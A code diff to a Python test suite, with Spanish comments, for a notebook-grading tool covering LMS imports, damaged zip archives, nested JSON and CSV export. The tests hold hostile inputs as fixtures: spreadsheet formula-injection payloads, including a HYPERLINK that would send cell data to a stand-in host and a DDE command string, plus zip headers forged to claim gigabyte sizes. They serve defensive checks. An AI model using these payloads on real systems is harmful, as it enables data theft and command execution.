@@ -119,8 +119,11 @@ def test_carpeta_normal_sin_enlaces_simbolicos(tmp_path):
     secret.write_text("contraseña")
     os.symlink(secret, src / "Pepe" / f"{NB1}.ipynb")
     (src / ".oculta").mkdir()
+    (src / ".oculta" / f"{NB1}.ipynb").write_bytes(b"oculta")
+    (src / ".ipynb_checkpoints").mkdir()
     students = lms_import.read_export(src)
-    assert sorted(students) == ["ana", "pepe", "vacio"]
+    (src / "__MACOSX").mkdir()
+    assert sorted(students) == ["ana", "oculta", "pepe", "vacio"]  # «.oculta» también es de alguien
     assert students["pepe"].uploads == [] and "enlace simbólico" in students["pepe"].skipped[0]
     cd = ClassDir(tmp_path / "clase")
     cd.create()
@@ -132,6 +135,73 @@ def test_carpeta_normal_sin_enlaces_simbolicos(tmp_path):
     lms_import.import_submissions(cd, src, {NB1: set()})
     assert cd.submission("ana", NB1).read_bytes() == b"ana v2"
     assert [p.read_bytes() for p in (cd.previous / "ana").iterdir()] == [b"ana"]
+
+
+def _zip_bytes(entries: dict[str, bytes]) -> bytearray:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
+        for name, data in entries.items():
+            zf.writestr(name, data)
+    return bytearray(buffer.getvalue())
+
+
+def test_zip_con_entradas_danadas_califica_el_resto(tmp_path):
+    """Una entrada con el CRC mal, o con cabeceras que dicen ocupar gigas, no para la importación:
+    esa persona sale en el CSV con el motivo y las demás se importan."""
+    raw = _zip_bytes({f"ana/{NB1}.ipynb": b"A" * 100, f"beto/{NB1}.ipynb": b"B" * 100,
+                      f"carla/{NB1}.ipynb": b"C" * 100, f"dani/{NB1}.ipynb": b"D" * 100})
+    raw[raw.index(b"B" * 100)] = ord("X")  # el contenido ya no cuadra con su CRC-32
+    at = raw.find(b"PK\x01\x02")
+    while at >= 0:  # cabeceras del directorio central de carla y dani: 3,9 GB descomprimido cada una
+        name_len = int.from_bytes(raw[at + 28:at + 30], "little")
+        if raw[at + 46:at + 46 + name_len].split(b"/")[0] in (b"carla", b"dani"):
+            raw[at + 24:at + 28] = (0xE8000000).to_bytes(4, "little")
+        at = raw.find(b"PK\x01\x02", at + 4)
+    path = tmp_path / "entregas.zip"
+    path.write_bytes(bytes(raw))
+    cd = ClassDir(tmp_path / "clase")
+    cd.create()
+    index = lms_import.import_submissions(cd, path, {NB1: set()})
+    assert sorted(index["alumnos"]) == ["ana", "beto", "carla", "dani"]
+    assert cd.submission("ana", NB1).read_bytes() == b"A" * 100
+    assert not cd.submission("beto", NB1).exists() and not cd.submission("carla", NB1).exists()
+    write_json(cd.template(NB1) / "info.json", {"puntuacion_maxima": 12.0})
+    export.write_csv(cd)
+    rows = {r["alumno"]: r for r in csv.DictReader(io.StringIO(cd.csv.read_text(encoding="utf-8")))}
+    assert rows["beto"]["estado"] == "falta la entrega" and "CRC" in rows["beto"]["observaciones"]
+    assert "3.9 GB" in rows["carla"]["observaciones"] and "vuelva a subir" in rows["dani"]["observaciones"]
+
+
+def test_json_anidado_sin_fin_es_json_invalido():
+    """200 000 listas anidadas (o 5 000, que sí se leen) no rompen el calificador: JSON inválido."""
+    for depth in (200_000, 5_000, repair.MAX_DEPTH + 1):
+        nested = "[" * depth + "]" * depth
+        data = ('{"cells": [], "metadata": {"x": %s}, "nbformat": 4, "nbformat_minor": 5}' % nested).encode()
+        with pytest.raises(repair.Ungradable, match="JSON inválido .anidado"):
+            repair.load_notebook(data)
+    shallow = "[" * 10 + "]" * 10
+    repair.load_notebook(('{"cells": [], "metadata": {"x": %s}, "nbformat": 4, "nbformat_minor": 5}' % shallow).encode())
+
+
+def test_csv_sin_formulas(tmp_path):
+    """Un nombre como «=HYPERLINK(...)» no llega al CSV como fórmula (OWASP: se antepone «'»)."""
+    cd = ClassDir(tmp_path / "clase")
+    cd.create()
+    write_json(cd.template(NB1) / "info.json", {"puntuacion_maxima": 10.0})
+    bad = {"a": '=HYPERLINK("http://x.example/?"&A1,"clic")', "b": "+1+1", "c": "-2+3", "d": "@SUM(A1)",
+           "e": "\t=1", "f": "\r=1", "g": "Ana = Luis"}
+    write_json(cd.index, {"alumnos": {k: {"nombre": v} for k, v in bad.items()}, "entregas": {"a": {NB1: {"sha256": "x"}}},
+                          "cuadernos": [NB1]})
+    write_json(cd.result_dir(NB1, "a") / "resultado.json",
+               {"sha256": "x", "estado": "calificado", "puntuacion": 7.5, "puntuacion_maxima": 10.0,
+                "observaciones": ["=cmd|' /C calc'!A0", "otra"]})
+    export.write_csv(cd)
+    rows = {r["alumno"]: r for r in csv.DictReader(io.StringIO(cd.csv.read_bytes().decode("utf-8"), newline=""))}
+    for sid, name in bad.items():
+        cell = rows[sid]["nombre"]
+        assert not cell.startswith(export.FORMULA_START), cell
+        assert cell == (name if sid == "g" else "'" + name.replace("\r", "\n"))
+    assert rows["a"]["observaciones"].startswith("'=cmd") and rows["a"]["puntuacion"] == "7.5"
 
 
 def test_nombres_normalizados():
@@ -353,13 +423,30 @@ def test_cambiar_el_cuaderno_regenera_la_plantilla_y_el_curso(tmp_path):
     assignments.prepare_master(cd, name, info, solutions)
     assert info["puntuacion_maxima"] == 2.0
     export.merge_into_gradebook(cd, [{"cuaderno": name, "alumno": "ana", "nombre": "Ana", "celdas": {"t": [2.0, 2.0]}}])
+    from nbgrader.api import Gradebook
+
+    db = cd.course / "gradebook.db"
+    with Gradebook(f"sqlite:///{db}") as gb:  # lo que pone el profesorado en formgrader
+        gb.find_grade("t", name, name, "ana").manual_score = 1.5
+        gb.find_comment("f", name, name, "ana").manual_comment = "Bien razonado"
+        gb.db.commit()
     assert assignments.prepare_template(cd, name, solutions) == info  # sin cambios: se reutiliza
+    # Más puntos y una celda de pruebas nueva: nbgrader no regenera un cuaderno con entregas.
     test.metadata["nbgrader"]["points"] = 5
+    extra = nbformat.v4.new_code_cell("assert f() + 1 == 2")
+    extra.metadata["nbgrader"] = dict(test.metadata["nbgrader"], grade_id="t2", points=1)
+    nb.cells.append(extra)
     nbformat.write(nb, solutions / name / f"{name}.ipynb")
     info2 = assignments.prepare_template(cd, name, solutions)
     assignments.prepare_master(cd, name, info2, solutions)
-    assert info2["puntuacion_maxima"] == 5.0 and info2["huella"] != info["huella"]
-    assert export.check_integrity(cd.course / "gradebook.db")
+    assert info2["puntuacion_maxima"] == 6.0 and info2["huella"] != info["huella"]
+    assert export.check_integrity(db)
+    # Lo puesto a mano sigue (y hay una copia del libro viejo).
+    with Gradebook(f"sqlite:///{db}") as gb:
+        assert gb.find_grade("t", name, name, "ana").manual_score == 1.5
+        assert gb.find_comment("f", name, name, "ana").manual_comment == "Bien razonado"
+        assert gb.find_grade("t2", name, name, "ana").manual_score is None
+    assert len(list((cd.course / "copias").glob("gradebook-*.db"))) == 1
     shutil.rmtree(tmp_path / "clase")
 
 
@@ -460,10 +547,14 @@ def test_huella_incluye_el_codigo_de_helpers(tmp_path):
     folder = tmp_path / "helpers"
     shutil.copytree(ROOT / "helpers", folder, ignore=shutil.ignore_patterns("__pycache__"))
     before = grading.helpers_fingerprint(folder)
-    (folder / "classroom" / "nota.py").write_text("# el calificador no corre en el núcleo\n")
+    (folder / "maintainers" / "nota.py").write_text("# las herramientas de mantenimiento no califican\n")
     assert grading.helpers_fingerprint(folder) == before
     (folder / "grading.py").write_text((folder / "grading.py").read_text() + "\n# comprobación corregida\n")
-    assert grading.helpers_fingerprint(folder) != before
+    after_check = grading.helpers_fingerprint(folder)
+    assert after_check != before
+    # El calificador también decide la nota (la guardia corre en cada núcleo): sin números a mano.
+    (folder / "classroom" / "guard.py").write_text((folder / "classroom" / "guard.py").read_text() + "\n# otra guardia\n")
+    assert grading.helpers_fingerprint(folder) != after_check
 
 
 def test_la_caja_no_recibe_secretos(monkeypatch):
